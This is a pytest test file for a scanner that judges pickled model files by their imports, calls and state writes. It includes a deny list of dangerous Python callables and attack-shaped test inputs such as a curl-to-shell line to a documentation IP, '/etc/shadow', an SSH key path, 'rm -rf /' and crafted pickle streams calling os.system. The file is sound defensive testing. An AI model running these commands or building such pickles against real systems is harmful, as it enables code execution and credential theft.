"""What imports, calls and writes within a pickle mean: the judgement on shapes, not on names of a list."""

from __future__ import annotations

import functools
import operator
import pickle

import pytest

from redan.kernels.artifacts import Reading, inspect_bytes


def read(data: bytes) -> Reading:
    return inspect_bytes(data, "model.pkl")


def text(value: str) -> bytes:
    return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """A stream that calls `module.name` with arguments that are given as opcodes."""
    return b"\x80\x02" + named(module, name) + b"(" + b"".join(arguments) + b"tR."


def verdict_and_kinds(data: bytes) -> tuple[str, set[str]]:
    reading = read(data)
    return reading.verdict, {reason.kind for reason in reading.reasons}


DENIED = [
    ("os", "system"), ("posix", "popen"), ("nt", "system"), ("subprocess", "Popen"), ("builtins", "eval"),
    ("builtins", "exec"), ("__builtin__", "compile"), ("builtins", "open"), ("builtins", "__import__"),
    ("builtins", "setattr"), ("sys", "exit"), ("runpy", "run_path"), ("importlib", "import_module"),
    ("pickle", "loads"), ("_pickle", "loads"), ("marshal", "loads"), ("types", "CodeType"), ("types", "FunctionType"),
    ("ctypes", "CDLL"), ("socket", "socket"), ("urllib.request", "urlopen"), ("webbrowser", "open"),
    ("shutil", "rmtree"), ("tempfile", "mktemp"), ("multiprocessing.util", "spawnv_passfds"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("torch.hub", "load"), ("torch", "load"),
    ("torch.jit", "load"), ("numpy", "load"), ("numpy", "fromfile"), ("numpy.f2py", "compile"),
    ("numpy.testing._private.utils", "runstring"), ("joblib", "load"), ("pandas", "read_pickle"),
    ("pandas.io.pickle", "read_pickle"), ("sklearn.datasets", "fetch_openml"), ("pip", "main"), ("cProfile", "run"),
    ("timeit", "timeit"), ("bdb", "Bdb"), ("code", "interact"), ("operator", "methodcaller"), ("functools", "reduce"),
    ("site", "main"), ("pydoc", "locate"), ("pty", "spawn"), ("logging.config", "listen"), ("gc", "get_objects"),
]  # fmt: skip


@pytest.mark.parametrize(("module", "name"), DENIED, ids=[".".join(pair) for pair in DENIED])
def test_powerful_names_are_unsafe_already_when_imported(module, name):
    reading = read(b"\x80\x02" + named(module, name) + b".")
    assert reading.verdict == "unsafe"
    assert reading.reasons[0].where == "byte 2"
    assert reading.reasons[0].kind in ("denied-import", "dotted-import")


def test_unlisted_class_is_unknown():
    assert verdict_and_kinds(b"\x80\x02" + named("mylab.models", "Net") + b")\x81}b.") == (
        "unknown",
        {"unlisted-import"},
    )


@pytest.mark.parametrize(
    "argument",
    [
        "curl http://198.51.100.7/x | sh",
        "https://198.51.100.7/payload",
        "import os; os.system('true')",
        "__import__('os').system('true')",
        "/etc/shadow",
        "/root/.ssh/id_rsa",
        "bash -c 'true'",
        "powershell -c calc",
        "../../etc/cron.d/x",
        "subprocess",
        "lambda: 1",
        "$(true)",
        "rm -rf /",
    ],
)
def test_attack_shaped_argument_of_an_unlisted_callable_is_unsafe(argument):
    assert verdict_and_kinds(call("mylab.tools", "Step", text(argument))) == (
        "unsafe",
        {"unlisted-import", "attack-argument"},
    )


@pytest.mark.parametrize("argument", ["relu", "mean squared error", "f_17", "linear (with bias)", "a/b/c", "v1.2.3"])
def test_plain_words_of_an_unlisted_callable_are_only_unknown(argument):
    assert verdict_and_kinds(call("mylab.tools", "Step", text(argument))) == ("unknown", {"unlisted-import"})


def test_attack_shape_is_found_inside_containers_and_bytes():
    nested = b"(](" + text("x") + b"}" + text("k") + text("curl http://h/ | sh") + b"set"
    assert read(call("mylab.tools", "Step", nested)).verdict == "unsafe"
    assert read(call("mylab.tools", "Step", b"C\x0fimport os; os.x")).verdict == "unsafe"
    assert read(call("mylab.tools", "Step", b"C\x0d\x80\x02cos\nsystem\n")).verdict == "unsafe"


def test_name_that_says_what_it_does_is_unsafe():
    assert verdict_and_kinds(call("mylab.tools", "run_command", text("x"))) == (
        "unsafe",
        {"unlisted-import", "powerful-name"},
    )


def test_unlisted_function_of_the_standard_library_is_unsafe():
    verdict, kinds = verdict_and_kinds(call("statistics", "mean", b"]K\x01a"))
    assert verdict == "unsafe"
    assert "unlisted-call" in kinds


def test_call_of_a_call_result_is_unsafe():
    data = call("collections", "OrderedDict")[:-1] + b")R."
    reading = read(data)
    assert reading.verdict == "unsafe"
    assert ("dynamic-call", f"byte {len(data) - 2}") in {(r.kind, r.where) for r in reading.reasons}


def test_call_of_a_literal_is_unsafe():
    assert verdict_and_kinds(b"\x80\x02" + text("system") + b")R.") == ("unsafe", {"dynamic-call"})


def test_state_written_into_an_imported_object_is_unsafe():
    assert "writes-imported" in verdict_and_kinds(b"\x80\x02" + named("collections", "OrderedDict") + b"}b.")[1]
    assert read(b"\x80\x02" + named("collections", "OrderedDict") + b"}b.").verdict == "unsafe"


@pytest.mark.parametrize("write", [b"K\x01a", b"(K\x01e", b"K\x01K\x02s", b"(K\x01K\x02u", b"(K\x01\x90"])
def test_item_written_into_an_imported_object_is_unsafe(write):
    assert verdict_and_kinds(b"\x80\x04" + named("collections", "OrderedDict") + write + b".") == (
        "unsafe",
        {"writes-imported"},
    )


@pytest.mark.parametrize("key", ["__class__", "__reduce__", "__setstate__", "__dict__", "__del__"])
def test_special_attributes_in_a_state_are_unsafe(key):
    data = b"\x80\x02" + named("collections", "OrderedDict") + b")R}" + text(key) + b"K\x01sb."
    assert verdict_and_kinds(data) == ("unsafe", {"dunder-state"})


@pytest.mark.parametrize("key", ["coef_", "_private", "__doc__", "weights"])
def test_ordinary_attributes_in_a_state_are_safe(key):
    assert read(b"\x80\x02" + named("collections", "OrderedDict") + b")R}" + text(key) + b"K\x01sb.").verdict == "safe"


def test_special_attribute_beyond_the_kept_items_is_still_seen():
    many = b"".join(text(f"key_{i}") + b"K\x01s" for i in range(1_000))
    data = b"\x80\x02" + named("collections", "OrderedDict") + b")R}" + many + text("__class__") + b"Nsb."
    assert verdict_and_kinds(data) == ("unsafe", {"dunder-state"})


@pytest.mark.parametrize("how", ["GLOBAL", "INST", "OBJ", "NEWOBJ", "NEWOBJ_EX"])
def test_every_opcode_that_calls_is_judged(how):
    data = {
        "GLOBAL": b"\x80\x02cos\nsystem\n(S'true'\ntR.",
        "INST": b"\x80\x02(S'true'\nios\nsystem\n.",
        "OBJ": b"\x80\x02(cos\nsystem\nS'true'\no.",
        "NEWOBJ": b"\x80\x02cos\nsystem\n(S'true'\nt\x81.",
        "NEWOBJ_EX": b"\x80\x04cos\nsystem\n(S'true'\nt}\x92.",
    }[how]
    reading = read(data)
    assert reading.verdict == "unsafe"
    (made,) = reading.calls
    assert made.how == ("REDUCE" if how == "GLOBAL" else how)
    assert (made.callable, made.arguments) == ("os.system", "('true',)")


@pytest.mark.parametrize("protocol", range(2, 6))
def test_partial_of_a_listed_function_is_judged_by_its_target(protocol):
    assert read(pickle.dumps(functools.partial(int, "7"), protocol)).verdict == "safe"


@pytest.mark.parametrize("protocol", range(2, 6))
def test_partial_of_a_denied_function_is_unsafe(protocol):
    assert read(pickle.dumps(functools.partial(eval, "1"), protocol)).verdict == "unsafe"


def test_partial_whose_state_replaces_its_target_is_unsafe():
    made = b"\x80\x02" + named("functools", "partial") + b"(" + named("builtins", "int") + b"tR"
    state = b"(" + named("os", "system") + b"(" + text("true") + b"t}Nt"
    assert read(made + state + b"b)R.").verdict == "unsafe"


def test_getattr_is_allowed_only_with_a_listed_pair():
    torch_pair = named("torch._C", "_VariableFunctionsClass") + text("clamp")
    assert read(call("builtins", "getattr", torch_pair)).verdict == "safe"
    other = named("torch._C", "_VariableFunctionsClass") + text("__subclasses__")
    assert verdict_and_kinds(call("builtins", "getattr", other)) == ("unsafe", {"computed-import"})
    module = named("collections", "OrderedDict") + text("__init__")
    assert verdict_and_kinds(call("builtins", "getattr", module)) == ("unsafe", {"computed-import"})


def test_attrgetter_of_plain_names_is_safe_and_of_special_names_is_not():
    assert read(pickle.dumps(operator.attrgetter("coef_"), 4)).verdict == "safe"
    assert read(pickle.dumps(operator.attrgetter("__class__.__init__"), 4)).verdict == "unsafe"


def test_reconstructor_needs_an_imported_class():
    base = named("__builtin__", "object")
    for cls in (named("os", "system"), text("os")):
        assert read(call("copy_reg", "_reconstructor", cls, base, b"N")).verdict == "unsafe"
    listed = named("collections", "OrderedDict")
    assert read(call("copy_reg", "_reconstructor", listed, base, b"N")).verdict == "safe"


def test_torch_loading_of_bytes_reads_the_bytes():
    inner = b"\x80\x02cos\nsystem\n(S'true'\ntR."
    argument = b"C" + bytes([len(inner)]) + inner
    reading = read(call("torch.storage", "_load_from_bytes", argument))
    assert reading.verdict == "unsafe"
    assert any(r.kind == "denied-import" and r.where.startswith("nested@") for r in reading.reasons)
    assert any(c.callable == "os.system" and c.stream.startswith("nested@") for c in reading.calls)


def test_allocation_of_gigabytes_is_unsafe():
    assert verdict_and_kinds(call("builtins", "bytearray", b"\x8a\x05\x00\x00\x00\x00\x10")) == (
        "unsafe",
        {"huge-allocation"},
    )
    assert read(call("builtins", "bytearray", b"K\x10")).verdict == "safe"


def test_iter_of_a_callable_is_unsafe():
    assert read(call("builtins", "iter", named("collections", "OrderedDict"), b"K\x01")).verdict == "unsafe"


def test_reasons_of_the_same_import_are_not_repeated():
    data = b"\x80\x02](" + named("os", "system") * 50 + b"e."
    assert len([r for r in read(data).reasons if r.kind == "denied-import"]) == 1
